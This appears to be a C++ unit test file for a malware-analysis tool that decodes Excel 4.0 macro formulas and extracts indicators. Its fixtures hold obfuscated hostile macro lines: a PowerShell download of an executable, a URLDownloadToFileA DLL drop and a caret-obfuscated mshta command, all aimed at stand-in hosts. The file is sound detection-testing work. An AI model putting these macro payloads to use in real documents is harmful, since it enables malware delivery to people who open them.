// analysis::evaluate_xlm on a workbook model built here (the shape formats/xls produces): CHAR() arithmetic,
// CONCATENATE/MID/SUBSTITUTE, SET.VALUE into a cell read later, and a FORMULA() that writes an EXEC formula which
// is then evaluated in turn.
#include <gtest/gtest.h>

#include "analysis/iocs.hpp"
#include "formats/xls/xls.hpp"
#include "support/iocs_helpers.hpp"

namespace {

namespace analysis = mamori::analysis;
namespace xls = mamori::xls;
using mamori::test::dump;
using mamori::test::find_ioc;
using mamori::test::values_of;
using Set = std::set<std::string>;

xls::FormulaCell cell(std::uint32_t row, std::uint32_t col, std::string text) {
  xls::FormulaCell f;
  f.sheet = 0;
  f.row = row;
  f.col = col;
  f.text = std::move(text);
  return f;
}

TEST(IocsXlm, FoldsCharsConcatenationAndFormulaWrites) {
  xls::Workbook wb;
  wb.sheets.push_back({"Macro1", xls::SheetType::macro_sheet, xls::Visibility::very_hidden, 0, 0x40, true, {}});
  wb.strings.push_back({0, 0, 3, "mple.org/q"});  // D1
  wb.formulas = {
      cell(0, 0, "=FORMULA(CHAR(61)&\"EXEC(\"&CHAR(34)&\"cmd /c powershell -w 1 -c iwr http://xlm.example.com/p -o "
                 "%TEMP%\\p.exe\"&CHAR(34)&\")\",A9)"),
      cell(1, 0, "=SET.VALUE(B1,CHAR(104)&CHAR(116)&\"tp://xlm2.exa\"&Macro1!$D$1)"),
      cell(2, 0, "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,B1,\"C:\\Users\\Public\\q.dll\",0,0)"),
      cell(3, 0, "=CONCATENATE(MID(\"zzhttp://\",3,7),SUBSTITUTE(\"xlm3#example#net\",\"#\",\".\"),\"/\"&LOWER(\"R\"))"),
      cell(4, 0, "=IF(1+1=2,\"http://\"&CHAR(50+70)&\"lm4.example.com/\",\"nothing\")"),
      cell(5, 0, "=HALT()"),
  };
  const auto ev = analysis::evaluate_xlm(wb);
  EXPECT_EQ(values_of(ev.iocs, "url"), (Set{"http://xlm.example.com/p", "http://xlm2.example.org/q",
                                          "http://xlm3.example.net/r", "http://xlm4.example.com/"}))
      << dump(ev.iocs);
  const auto* u2 = find_ioc(ev.iocs, "url", "http://xlm2.example.org/q");
  ASSERT_NE(u2, nullptr);
  EXPECT_EQ(u2->where, "xlm:Macro1!A2");
  EXPECT_NE(find_ioc(ev.iocs, "command", "cmd /c powershell -w 1 -c iwr http://xlm.example.com/p -o %TEMP%\\p.exe"),
            nullptr)
      << dump(ev.iocs);
  EXPECT_NE(find_ioc(ev.iocs, "path", "C:\\Users\\Public\\q.dll"), nullptr) << dump(ev.iocs);
  EXPECT_EQ(ev.limits_hit, 0u);
}

TEST(IocsXlm, SelfWritingFormulasStayBounded) {
  xls::Workbook wb;
  wb.sheets.push_back({"M", xls::SheetType::macro_sheet, xls::Visibility::visible, 0, 0x40, true, {}});
  // A1 writes itself back into A1, forever if allowed; A2 nests parentheses past the depth cap.
  wb.formulas = {cell(0, 0, "=FORMULA(\"=FORMULA(\"\"=A1\"\",A1)\",A1)"),
                 cell(1, 0, "=" + std::string(5000, '(') + "1" + std::string(5000, ')')),
                 cell(2, 0, "=REPT(\"a\",100000)&REPT(\"b\",-1)&MID(\"x\",-5,2)&CHAR(0)&CHAR(999)")};
  const auto ev = analysis::evaluate_xlm(wb);
  EXPECT_TRUE(ev.iocs.empty());
  EXPECT_GT(ev.limits_hit, 0u);
}

}  // namespace

namespace {

TEST(IocsXlm, NamedValuesAndCaretObfuscation) {
  xls::Workbook wb;
  wb.sheets.push_back({"OO", xls::SheetType::macro_sheet, xls::Visibility::hidden, 0, 0x40, true, {}});
  wb.formulas = {cell(27, 9, "=PAYLOAD=\"cmd /c m^sh^t^a h^tt^p^:/^/192.0.2.77/x/y.html\""),
                 cell(38, 9, "=EXEC(PAYLOAD)"), cell(50, 9, "=HALT()")};
  const auto ev = analysis::evaluate_xlm(wb);
  EXPECT_EQ(values_of(ev.iocs, "url"), Set{"http://192.0.2.77/x/y.html"}) << dump(ev.iocs);
  const auto* u = find_ioc(ev.iocs, "url", "http://192.0.2.77/x/y.html");
  ASSERT_NE(u, nullptr);
  EXPECT_EQ(u->where, "xlm:OO!J28 (decoded powershell)");
}

}  // namespace
